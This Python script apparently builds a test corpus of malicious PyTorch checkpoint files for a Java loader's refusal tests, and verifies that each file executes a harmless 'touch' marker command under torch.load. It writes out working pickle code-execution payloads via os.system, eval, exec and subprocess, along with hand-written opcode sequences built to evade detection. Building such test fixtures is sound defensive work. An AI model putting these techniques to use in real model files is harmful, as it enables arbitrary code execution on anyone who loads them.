#!/usr/bin/python3
"""Writes the malicious-checkpoint corpus read by MaliciousCorpusTest, and proves each file runs code under PyTorch.

Run from the repository root with Debian's python3 (python3-torch):

    /usr/bin/python3 scripts/make_hostile_fixtures.py

Output: nn/src/test/resources/io/malicious/*.pth (a few KB in all) and corpus.json, which names for every file the
global or opcode saccade must refuse it for. Every payload runs `touch saccade_io_malicious_marker` (a path relative
to the working directory of whoever loads it). The script then loads each file with plain `torch.load(path)` in a
subprocess whose working directory is a fresh temporary folder, and fails unless the marker appeared there: each
file in the corpus is shown to execute code under PyTorch. (torch >= 2.6 defaults to weights_only=True, which
refuses these files; there the proof passes weights_only=False, what every earlier torch.load did by default.)

The hostile files that need no code execution (deep nesting, memo bombs, huge integers, zip bombs, CRC flips,
overflowing strides, truncations and bit flips) are generated on the fly by the Java tests of dev.saccade.nn.io.
"""
import collections
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
import zipfile

import torch

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "nn", "src", "test", "resources", "io",
                   "malicious")
MARKER = "saccade_io_malicious_marker"
COMMAND = "touch " + MARKER

corpus = {}


class SystemCall:
    """The classic pickle attack: __reduce__ returns os.system (posix.system on Linux) and a command."""

    def __reduce__(self):
        return (os.system, (COMMAND,))


class EvalCall:
    def __reduce__(self):
        return (eval, ("__import__('os').system(%r)" % COMMAND,))


class ExecCall:
    def __reduce__(self):
        return (exec, ("import os; os.system(%r)" % COMMAND,))


class SubprocessCall:
    def __reduce__(self):
        return (subprocess.call, (["touch", MARKER],))


def save(name, obj, refused_for, **kwargs):
    torch.save(obj, os.path.join(OUT, name), **kwargs)
    corpus[name] = {"refused_for": refused_for}


def with_pickle(name, pickle_bytes, refused_for):
    """A real torch.save archive whose data.pkl is replaced by hand-written pickle bytes (stored, like torch)."""
    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    archive = name[:-len(".pth")]
    with zipfile.ZipFile(os.path.join(OUT, name), "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = pickle_bytes if info.filename.endswith("/data.pkl") else src.read(info.filename)
            entry = zipfile.ZipInfo(archive + "/" + info.filename.split("/", 1)[1], date_time=(1980, 1, 1, 0, 0, 0))
            dst.writestr(entry, data)
    corpus[name] = {"refused_for": refused_for}


def write_corpus():
    weight = torch.arange(4, dtype=torch.float32)
    save("system_reduce.pth", {"weight": weight, "payload": SystemCall()}, "'posix.system'")
    save("system_stack_global.pth", {"weight": weight, "payload": SystemCall()}, "'posix.system'",
         pickle_protocol=4)
    # protocol 2 (torch.save's default) names builtins by their Python 2 module, __builtin__
    save("eval_builtin.pth", {"weight": weight, "payload": EvalCall()}, "'__builtin__.eval'")
    save("exec_builtin.pth", {"weight": weight, "payload": ExecCall()}, "'__builtin__.exec'")
    # … and subprocess by its Python 2 home, commands (pickle's _compat_pickle mapping)
    save("subprocess_call.pth", {"weight": weight, "payload": SubprocessCall()}, "'commands.call'")
    nested = collections.OrderedDict(fc=weight, extra=[1, {"deep": (2, SystemCall())}])
    save("nested_in_state_dict.pth", {"epoch": 3, "state_dict": nested}, "'posix.system'")
    # protocol 0: getattr(__import__('os'), 'system')('touch …'): no global but builtins is named
    chain = ("cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S%r\ntR." % COMMAND).encode()
    with_pickle("getattr_chain.pth", chain, "'builtins.getattr'")
    # INST: find_class('os', 'system') then call it with the marked arguments; no GLOBAL opcode at all
    with_pickle("inst_opcode.pth", ("(S%r\nios\nsystem\n." % COMMAND).encode(), "opcode 0x69")
    # OBJ: MARK, callable, args, OBJ calls callable(*args)
    with_pickle("obj_opcode.pth", ("(cos\nsystem\nS%r\no." % COMMAND).encode(), "'os.system'")


def proves_execution(path):
    """Loads path with torch.load in a fresh working directory; true when the payload created the marker."""
    version = tuple(int(p) for p in torch.__version__.split("+")[0].split(".")[:2])
    extra = ", weights_only=False" if version >= (2, 6) else ""
    work = tempfile.mkdtemp(prefix="saccade-malicious-")
    try:
        code = "import torch, sys\ntry:\n    torch.load(sys.argv[1]%s)\nexcept Exception as e:\n    print(e)\n" % extra
        subprocess.run([sys.executable, "-c", code, os.path.abspath(path)], cwd=work, timeout=120,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return os.path.exists(os.path.join(work, MARKER))
    finally:
        shutil.rmtree(work)


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    write_corpus()
    failed = []
    for name in sorted(corpus):
        ran = proves_execution(os.path.join(OUT, name))
        print(f"{name}: torch {torch.__version__} torch.load {'RAN the payload' if ran else 'did not run it'}")
        corpus[name]["runs_under"] = "torch " + torch.__version__ + " torch.load" if ran else None
        if not ran:
            failed.append(name)
    with open(os.path.join(OUT, "corpus.json"), "w") as f:
        json.dump(corpus, f, indent=1, sort_keys=True)
        f.write("\n")
    if failed:
        sys.exit("not proven to execute under torch.load: " + ", ".join(failed))
    print(f"wrote {len(corpus)} files to {os.path.normpath(OUT)}; every one runs code under torch.load")


if __name__ == "__main__":
    main()
